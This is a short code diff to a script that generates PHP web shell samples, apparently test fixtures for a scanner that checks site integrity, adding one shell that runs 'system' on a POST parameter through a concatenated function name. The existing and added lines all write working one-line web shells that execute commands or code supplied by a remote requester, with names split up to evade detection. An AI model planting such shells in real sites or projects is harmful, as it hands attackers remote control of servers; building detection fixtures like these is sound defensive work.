@@ -264,6 +264,7 @@ PAGE, POST = "integrity/webshell/", "$_PO" + "ST"
 write(PAGE + "direct.php", "<?php @ev" + "al(" + POST + "['x']); ?>\n")
 write(PAGE + "encoded.php", "<?php ass" + "ert(base64_decode(" + POST + "['x']));\n")
 write(PAGE + "called.php", "<?php " + POST + "['f'](" + POST + "['x']);\n")
+write(PAGE + "named.php", "<?php\n$x = " + POST + "['c'];\n$f = 'sys' . 'tem';\n$f($x);\n")
 write(PAGE + "by-variable.php", "<?php\n$command = " + POST + "['c'];\necho '<pre>';\nsys" + "tem($command);\n")
 
 POWER, IEX = "integrity/powershell-behaviour/", "ie" + "x"
